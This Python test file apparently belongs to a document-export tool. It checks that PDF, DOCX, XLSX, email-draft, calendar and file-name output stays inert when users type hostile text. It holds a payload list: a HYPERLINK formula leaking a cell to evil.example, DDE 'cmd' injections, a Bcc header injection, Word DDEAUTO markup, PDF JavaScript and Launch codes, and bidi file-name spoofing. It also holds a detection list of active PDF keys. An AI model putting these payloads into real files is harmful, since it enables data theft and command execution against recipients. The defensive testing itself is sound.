"""Text that would act if a program took it for more than text stays text in every place of every format."""

import re
import zipfile
from collections.abc import Iterator
from dataclasses import fields, is_dataclass, replace
from datetime import UTC, date, datetime
from email import policy
from email.parser import BytesParser
from enum import Enum
from functools import cache
from io import BytesIO
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import openpyxl
import pikepdf
import pypdfium2
import pytest

from jatdesk import files
from jatdesk.docs import calendar, case_log, docx, eml, pdf, xlsx
from jatdesk.docs.content import Document
from jatdesk.docs.sheet import Sheet, SheetColumn
from jatdesk.domain.calendar_entries import CalendarEntry
from jatdesk.errors import UserError
from tests.docs import golden, samples

PAYLOADS = {
    "a link formula": '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "a command behind a plus": "+cmd|' /C calc'!A0",
    "a command behind a minus": "-2+3+cmd|' /C calc'!A0",
    "a command behind an at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "a formula behind a tab": "\t=1+1\r=2+2",
    "a name turned round": "Ada \u202egnp.exe\u202c \u2066isolated\u2069 \u200fright",
    "control characters": "Ada\x00\x07\x1b[31mred\x08\x0c\x7f\x85 \ud800 \ufffe",
    "headers of a mail": "Ada\r\nBcc: thief@evil.example\r\n\r\n<b>body</b>",
    "an event of a calendar": "Ada\r\nEND:VEVENT\nBEGIN:VEVENT;X=1,2\\n",
    "markup and entities": '</w:t><w:instrText>DDEAUTO cmd</w:instrText> &lt;script&gt; "&x;" <!DOCTYPE a []> ]]>',
    "header codes and a path": '&P&"Arial,Bold"&D ../../CON [x]*?:/\\ \'',
    "codes of a PDF": "(Ada) Tj ET /JavaScript << /S /URI >> \\) endstream endobj",
}
UNSEEN = re.compile(
    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ufeff\ufffe\uffff]"
)
READ, WRITTEN_IN = ("minutes", "caf", "agency-action-update"), ("agency-action-update",)
ACTS = {
    "/AA", "/OpenAction", "/JS", "/JavaScript", "/URI", "/Launch", "/GoToR", "/GoToE", "/SubmitForm", "/EmbeddedFiles",
    "/EmbeddedFile", "/Filespec", "/RichMedia", "/Annots", "/XFA",
}  # fmt: skip
W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"


@pytest.fixture(params=sorted(PAYLOADS))
def payload(request: pytest.FixtureRequest) -> str:
    return PAYLOADS[request.param]


def test_nothing_in_a_pdf_acts_or_hides(payload: str) -> None:
    for document in _documents(payload):
        data = pdf.render(document, golden.resource("fonts"))
        with pikepdf.open(BytesIO(data)) as opened:
            assert not set(_names(opened)) & ACTS
            assert not UNSEEN.search(str(opened.docinfo.get("/Title", "")))
            assert len(opened.pages) > 0
        shown = pypdfium2.PdfDocument(data)
        said = "".join(page.get_textpage().get_text_range() for page in shown)
        titles = "".join(mark.get_title() for mark in shown.get_toc())
        shown.close()
        assert not UNSEEN.search(said.replace("\ufffe", ""))  # PDFium's own sign for a hyphen at a line's end
        assert not UNSEEN.search(titles)
        assert _letters(payload)[:12] in _letters(said)


def test_a_word_file_has_no_field_no_link_and_no_sign_that_is_not_ours(payload: str) -> None:
    for name in WRITTEN_IN:
        tame, wild = _word(name, "tame"), _word(name, payload)
        assert set(wild) == set(tame), "no part, link or object more than a harmless text makes"
        for part, content in wild.items():
            if not part.endswith((".xml", ".rels")):
                continue
            assert b"<!" not in content, "no entity and no document type"
            tree = ElementTree.fromstring(content)
            assert not any(node.get("TargetMode") == "External" for node in tree.iter())
            assert {node.text for node in tree.iter(f"{W}instrText")} <= {" PAGE ", " NUMPAGES ", "PAGE", "NUMPAGES"}
            ours = {node.tag for node in ElementTree.fromstring(tame[part]).iter()}
            assert {node.tag for node in tree.iter()} <= ours | {f"{W}br", f"{W}rtl", f"{W}rFonts"}
            for node in tree.iter():
                assert not UNSEEN.search("".join((node.text or "", *node.attrib.values())))


def test_a_workbook_holds_text_only_in_cells_titles_names_and_headers(payload: str) -> None:
    sheet = Sheet(payload, (SheetColumn(payload, 20), SheetColumn("Other", 20)), ((payload, "a"), ("b", payload)))
    made = xlsx.render(
        (sheet, replace(sheet, made_up=True), case_log.sheet(_filled(samples.log_rows(), payload), samples.TEAM))
    )
    for name, content in _parts(made).items():
        assert "externalLink" not in name
        tree = ElementTree.fromstring(content)
        tags = {node.tag.rpartition("}")[2] for node in tree.iter()}
        assert not tags & {"f", "hyperlink", "ddeLink", "oleLink", "legacyDrawing"}
        assert not any(node.get("TargetMode") == "External" for node in tree.iter())
        for node in tree.iter():
            assert not UNSEEN.search("".join((node.text or "", *node.attrib.values())))
            if node.tag.endswith("oddHeader"):
                plain = (node.text or "").replace("&&", "")
                assert re.fullmatch(r"&LCONFIDENTIAL · [^&]*", plain), "no code of a header but where it stands"
    workbook = openpyxl.load_workbook(BytesIO(made))
    for page in workbook.worksheets:
        assert 0 < len(page.title) <= 31
        assert not set(page.title) & set("[]:*?/\\")
        assert not page.title.startswith("'") and not page.title.endswith("'")
        for row in page.iter_rows():
            for cell in row:
                assert cell.data_type in {"s", "n", "d"} and cell.hyperlink is None
                if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")) and cell.row > 1:
                    assert cell.quotePrefix


def test_a_sheet_never_has_the_name_that_excel_keeps_for_itself() -> None:
    for name in ("History", "HISTORY "):
        made = xlsx.render((Sheet(name, (SheetColumn("a"),), (("b",),)),))
        assert openpyxl.load_workbook(BytesIO(made)).sheetnames[0].casefold() != "history"


def test_a_draft_has_the_headers_we_gave_it_and_no_other(payload: str) -> None:
    plain = "ada@example.org"
    made = eml.draft([plain], payload, payload, [(f"{payload}.pdf", "application/pdf", b"sealed")])
    message = BytesParser(policy=policy.default).parsebytes(made)
    assert sorted(name.lower() for name in message.keys()) == [  # noqa: SIM118  # a mapping by name with doubles
        "content-type", "mime-version", "subject", "to", "x-unsent",
    ]  # fmt: skip
    assert message["To"] == plain
    assert message["Bcc"] is None
    (attached,) = message.iter_attachments()  # type: ignore[attr-defined]
    assert attached.get_content() == b"sealed"
    said = f"{message['Subject']}{attached.get_filename()}{message.get_body().get_content()}"  # type: ignore[attr-defined]
    assert not UNSEEN.search(said)
    assert "\n" not in message["Subject"] + attached.get_filename()
    with pytest.raises(ValueError, match="address"):
        eml.draft([f"{plain},{payload}"], "a", "b", [])


def test_a_calendar_has_one_event_with_the_lines_we_gave_it(payload: str) -> None:
    entry = CalendarEntry("u1", date(2026, 12, 10), "10:00", "12:00", payload, payload)
    made = calendar.build((entry,), datetime(2026, 11, 22, tzinfo=UTC), payload).decode()
    lines = made.replace("\r\n ", "").split("\r\n")
    assert lines.count("BEGIN:VEVENT") == lines.count("END:VEVENT") == 1
    event = lines[lines.index("BEGIN:VEVENT") : lines.index("END:VEVENT")]
    names = [re.split("[:;]", line)[0] for line in event]
    told = "BEGIN UID DTSTAMP SEQUENCE DTSTART DTEND SUMMARY LOCATION ORGANIZER STATUS TRANSP"
    assert names == told.split()
    assert not UNSEEN.search(made.replace("\r", ""))
    assert all(len(line.encode()) <= 75 for line in made.split("\r\n"))


def test_a_file_name_is_refused_or_names_one_file_here(payload: str, tmp_path: Path) -> None:
    for words in (payload, f"Open actions, {payload}"):
        try:
            name = files.safe_name(words)
        except UserError:
            name = files.name_from(words)
        assert files.safe_name(name) == name
        (tmp_path / name).write_bytes(b"x")
        assert [each.name for each in tmp_path.iterdir()] == [name]
        (tmp_path / name).unlink()


def _documents(payload: str) -> Iterator[Document]:
    built = golden.documents()
    return (_filled(built[name](), payload) for name in READ)


@cache
def _word(name: str, payload: str) -> dict[str, bytes]:
    return _parts(docx.render(_filled(golden.documents()[name](), payload)))


def _filled(value: Any, payload: str) -> Any:
    """The same values with the payload for every text that people type; what programs read (tags) stays."""
    if isinstance(value, Enum):
        return value
    if isinstance(value, str):
        return payload
    if isinstance(value, tuple):
        return tuple(_filled(each, payload) for each in value)
    if is_dataclass(value) and not isinstance(value, type):
        kept = {"tag", "level", "kind", "state"}
        return replace(
            value,
            **{
                each.name: _filled(getattr(value, each.name), payload)
                for each in fields(value)
                if each.name not in kept
            },
        )
    return value


def _names(opened: pikepdf.Pdf) -> Iterator[str]:
    """Every key of the file, and every name that says what something is."""
    for item in opened.objects:
        if isinstance(item, (pikepdf.Dictionary, pikepdf.Stream)):
            for key, value in item.items():
                yield key
                if isinstance(value, pikepdf.Name):
                    yield str(value)


def _parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _letters(words: str) -> str:
    return "".join(re.findall(r"[a-zA-Z0-9]", UNSEEN.sub("", words)))
